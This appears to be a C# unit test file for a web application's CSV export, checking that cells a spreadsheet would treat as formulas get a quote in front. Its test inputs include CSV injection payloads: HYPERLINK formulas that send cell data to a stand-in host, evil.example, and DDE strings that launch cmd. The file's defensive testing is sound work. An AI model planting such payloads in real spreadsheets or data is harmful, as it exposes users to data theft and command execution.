using System.Globalization;
using System.Net;
using ConflictTracker.Web.Features.DemoData;
using ConflictTracker.Web.Features.Exchange;
using ConflictTracker.Web.Security;
using CsvHelper;

namespace ConflictTracker.Web.Tests.Api;

/// <summary>CSV exports neutralise cells a spreadsheet would run as formulas (OWASP "CSV Injection").</summary>
public class CsvFormulaExportTests(ApiFixture fixture) : IClassFixture<ApiFixture>
{
    private sealed record Row(string? Text, int Number, DateOnly Day);

    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Details\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void ATextCellThatStartsAFormulaGetsAQuoteInFront(string text)
    {
        var written = Write(new Row(text, 1, new DateOnly(2024, 10, 18)));

        Read(written).Text.Should().Be("'" + text);
    }

    [Theory]
    [InlineData("Seoul says about 1,500 soldiers")]
    [InlineData("'Tis so")]
    [InlineData(" =not a formula after a space")]
    [InlineData("1,500 = nearly 1,500")]
    [InlineData("")]
    public void OtherTextIsWrittenAsItIs(string text)
    {
        Read(Write(new Row(text, 1, new DateOnly(2024, 10, 18)))).Text.Should().Be(text);
    }

    [Fact]
    public void NumbersAreDataNotFormulasAndEveryCellIsQuoted()
    {
        var written = Write(new Row("-", -5, new DateOnly(2024, 10, 18)));

        written.Should().Be("\"Text\",\"Number\",\"Day\"\r\n\"'-\",\"-5\",\"2024-10-18\"\r\n");
        Read(written).Should().Be(new Row("'-", -5, new DateOnly(2024, 10, 18)));
    }

    [Fact]
    public async Task AClaimWhoseSummaryIsAFormulaExportsAsText()
    {
        var claim = DemoIds.For("claim", "nis-1500-vladivostok");
        const string Formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for the source\")";
        await fixture.Database.ExecuteAsync(
            "UPDATE claims SET summary = @summary WHERE id = @id",
            ("summary", Formula),
            ("id", claim)
        );
        await fixture.Database.ExecuteAsync(
            "UPDATE actors SET name = '@NIS' WHERE id = (SELECT asserted_by_id FROM claims WHERE id = @id)",
            ("id", claim)
        );
        var analyst = await fixture.ClientAsync(Roles.Analyst);

        using var response = await analyst.GetAsync("/api/v1/export/claims.csv");

        response.StatusCode.Should().Be(HttpStatusCode.OK);
        var text = await response.Content.ReadAsStringAsync();
        text.Should()
            .Contain("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Click for the source\"\")\"")
            .And.NotContain(",=HYPERLINK")
            .And.NotContain("\"=HYPERLINK");
        using var reader = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        var row = reader
            .GetRecords<dynamic>()
            .Cast<IDictionary<string, object>>()
            .Single(r => (string)r["Id"] == claim.ToString());
        ((string)row["Summary"]).Should().Be("'" + Formula);
        ((string)row["Actor"]).Should().Be("'@NIS");
        ((string)row["StatedOnDate"])
            .Should()
            .MatchRegex("^[0-9]{4}-[0-9]{2}-[0-9]{2}$", "dates are written as they are");

        using var json = await analyst.GetAsync("/api/v1/export/claims.json");
        (await json.Content.ReadAsStringAsync())
            .Should()
            .Contain("\"summary\":\"=HYPERLINK(", "only CSV, which spreadsheets open, is neutralised");
    }

    private static string Write(Row row)
    {
        using var buffer = new StringWriter(CultureInfo.InvariantCulture);
        using (var csv = SpreadsheetCsv.CreateWriter(buffer, leaveOpen: true))
        {
            csv.WriteHeader<Row>();
            csv.NextRecord();
            csv.WriteRecord(row);
            csv.NextRecord();
        }

        return buffer.ToString();
    }

    private static Row Read(string csv)
    {
        using var reader = new CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        return reader.GetRecords<Row>().Single();
    }
}
